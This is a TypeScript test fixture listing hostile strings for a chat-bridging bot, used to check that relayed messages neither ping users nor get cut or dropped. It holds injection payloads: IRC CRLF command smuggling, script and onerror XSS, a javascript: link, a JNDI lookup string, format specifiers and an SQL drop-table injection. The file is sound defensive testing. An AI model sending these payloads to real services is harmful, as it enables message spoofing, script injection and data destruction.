/** What people and robots write to break bridges. None of it may ring anybody, end a line early, or vanish with what stands around it. */
export const hostileTexts: readonly string[] = [
  "@everyone @here @channel @room",
  "<!channel> <!everyone> <!here> <@U024BE7LD> <#C024BE7LR> <!subteam^S123>",
  "<@80351110224678912> <@!80351110224678912> <@&41771983423143936> <#41771983423143937> <:a:1> </x:1>",
  "first\rPRIVMSG #other :injected\r\nQUIT :gone\nJOIN 0",
  "nul\u0000 bell\u0007 ctcp\u0001ACTION waves\u0001 escape\u001b[31m",
  "\u202eright to left\u202c \u2066isolated\u2069 zero\u200bwidth \ufeff",
  "lone \ud800 surrogates \udfff",
  "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt; &amp;amp;",
  "```unclosed `code ||spoiler **bold __under ~~strike *_",
  '[text](javascript:alert(1)) [x](https://example.org/?a=b&c=d"onclick="x) https://example.org/(a)_b',
  "\u0003\u0003,99\u000399,0\u0002\u001d\u001f\u0016\u000f\u0011\u0004ff00ff",
  "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 👩‍👩‍👧‍👦🏳️‍🌈🇩🇪 ﷽",
  "/msg NickServ drop  !causeway unlink  \\/join 0",
  "${jndi:ldap://example.org/a} %s %n {{7*7}} '; drop table journal; --",
  "    ",
];
